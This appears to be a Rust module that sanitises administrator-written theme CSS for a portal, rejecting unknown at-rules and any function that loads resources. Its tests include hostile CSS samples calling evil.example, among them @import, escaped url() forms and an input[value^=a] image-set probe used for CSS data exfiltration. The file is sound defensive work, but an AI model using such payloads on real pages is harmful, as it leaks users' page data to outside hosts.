//! Styles of an administrator's own, for the portal's pages: read token by token and written anew. They may change how things
//! look; they load nothing, from nowhere, which closes the ways by which styles tell others what stands on a page.

use cssparser::{ParseError, ParseErrorKind, Parser, ToCss, Token};

/// Characters that are taken.
pub const LENGTH: usize = 50_000;

/// Blocks in blocks.
const DEPTH: usize = 32;

/// Rules that begin with an @ and are taken.
const RULES: [&str; 10] = [
    "media",
    "supports",
    "layer",
    "container",
    "keyframes",
    "property",
    "scope",
    "starting-style",
    "page",
    "counter-style",
];

/// Functions that load something.
const LOADERS: [&str; 10] = [
    "url",
    "-moz-image-rect",
    "src",
    "image",
    "image-set",
    "-webkit-image-set",
    "cross-fade",
    "-webkit-cross-fade",
    "element",
    "paint",
];

/// What is wrong with styles, and in which line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fault {
    /// The key of the sentence that says it.
    pub key: &'static str,
    /// What it is about.
    pub what: String,
    /// The line, counted from 1.
    pub line: u32,
}

/// The same styles, written anew; brackets that are not closed are.
///
/// # Errors
/// The first thing that cannot be taken.
pub fn clean(text: &str) -> Result<String, Fault> {
    read(text, false)
}

/// Whether the styles of a drawing load nothing. They may name what is in the drawing itself, as shades are.
///
/// # Errors
/// As [`clean`].
pub(super) fn check_drawing(text: &str) -> Result<(), Fault> {
    read(text, true).map(drop)
}

fn read(text: &str, names_itself: bool) -> Result<String, Fault> {
    let mut parser = Parser::new(text);
    let mut css = String::new();
    match walk(&mut parser, &mut css, (0, names_itself)) {
        Ok(()) => Ok(css.trim().to_owned()),
        Err(found) => Err(match found.kind {
            ParseErrorKind::Custom(fault) => fault,
            ParseErrorKind::Basic(_) => {
                let line = parser.current_source_location().line + 1;
                Fault { key: "theme-css-broken", what: String::new(), line }
            }
        }),
    }
}

fn walk(
    input: &mut Parser<'_>,
    css: &mut String,
    (depth, names_itself): (usize, bool),
) -> Result<(), ParseError<Fault>> {
    loop {
        let at = input.current_source_location();
        let Ok(token) = input.next_including_whitespace_and_comments().cloned() else { return Ok(()) };
        let fault = |key: &'static str, what: &str| {
            let what = what.chars().take(60).collect();
            Err(ParseError { kind: ParseErrorKind::Custom(Fault { key, what, line: at.line + 1 }) })
        };
        let is_one_of = |names: &[&str], name: &str| names.iter().any(|known| name.eq_ignore_ascii_case(known));
        let closes = match &token {
            Token::AtKeyword(name) if !is_one_of(&RULES, name) => return fault("theme-css-rule", name),
            Token::UnquotedUrl(place) if names_itself && place.starts_with('#') => None,
            Token::UnquotedUrl(_) => return fault("theme-css-loads", "url"),
            Token::Function(name) if is_one_of(&LOADERS, name) => return fault("theme-css-loads", name),
            Token::BadUrl(_)
            | Token::BadString(_)
            | Token::CloseParenthesis
            | Token::CloseSquareBracket
            | Token::CloseCurlyBracket
            | Token::CDO
            | Token::CDC => return fault("theme-css-broken", ""),
            Token::Comment(_) => {
                // Where it stood, what it kept apart stays apart.
                css.push_str("/**/");
                continue;
            }
            Token::Function(_) | Token::ParenthesisBlock => Some(')'),
            Token::SquareBracketBlock => Some(']'),
            Token::CurlyBracketBlock => Some('}'),
            _ => None,
        };
        if token.to_css(css).is_err() {
            return fault("theme-css-broken", "");
        }
        if let Some(closes) = closes {
            if depth >= DEPTH {
                return fault("theme-css-broken", "");
            }
            input.parse_nested_block(|inside| walk(inside, css, (depth + 1, names_itself)))?;
            css.push(closes);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::clean;

    #[test]
    fn styles_come_out_as_they_went_in() {
        for css in [
            ".hero{padding:2rem}",
            "@media (width < 40rem) { h1 { font-size: 1.5rem } }",
            ":root { --r: 2px; --x: calc(1px + var(--r)) } a:not([href^=\"x\"])::after { content: \"\\201c\" }",
            "@layer a, b; @container (width > 1px) { .x { color: color-mix(in oklab, red 20%, var(--bg)) } }",
            "@keyframes turn { from { rotate: 0deg } to { rotate: 1turn } }",
        ] {
            let out = clean(css).expect("it is taken");
            assert_eq!(clean(&out), Ok(out.clone()), "{css}");
            assert_eq!(out.replace(' ', ""), css.replace(' ', "").replace("\\201c", "\u{201c}"), "{css}");
        }
        assert_eq!(clean("a{color:red").as_deref(), Ok("a{color:red}"), "what is left open is closed");
        assert_eq!(clean("").as_deref(), Ok(""));
    }

    #[test]
    fn hostile_styles_that_load_something_are_refused() {
        for css in [
            "@import 'https://evil.example/x.css';",
            "@import url(https://evil.example/x.css);",
            "@IMPORT \"x\";",
            "@\\69mport \"x\";",
            "@font-face{font-family:x;src:url(https://evil.example/x.woff2)}",
            "@namespace x url(https://evil.example);",
            "@charset \"utf-7\";",
            "a{background:url(https://evil.example/x)}",
            "a{background:URL( 'https://evil.example/x' )}",
            "a{background:\\75rl(https://evil.example/x)}",
            "a{background:u\\72l(\"//evil.example/x\")}",
            "a{background:/**/url(data:image/png;base64,x)}",
            "input[value^=a]{background-image:image-set(\"https://evil.example/a\" 1x)}",
            "a{background:-webkit-image-set('https://evil.example/a' 1x)}",
            "a{background:image('https://evil.example/a')}",
            "a{cursor:url(x)}",
            "a{--x:url(https://evil.example/x)}",
            "@media print{@supports (a:b){a{background:src('https://evil.example')}}}",
        ] {
            let fault = clean(css).expect_err(css);
            assert!(matches!(fault.key, "theme-css-loads" | "theme-css-rule"), "{css}: {fault:?}");
        }
    }

    #[test]
    fn styles_that_are_broken_are_refused_with_their_line() {
        for (css, line) in
            [("a{}\n}", 2), ("a{color:'x\n'}", 1), ("\n\n)", 3), ("<!-- a{} -->", 1), ("a{b:url(x y)}", 1)]
        {
            let fault = clean(css).expect_err(css);
            assert_eq!(fault.line, line, "{css}: {fault:?}");
        }
        assert!(clean(&"a{".repeat(10_000)).is_err(), "blocks end somewhere");
        assert!(clean(&"(".repeat(50_000)).is_err());
    }
}
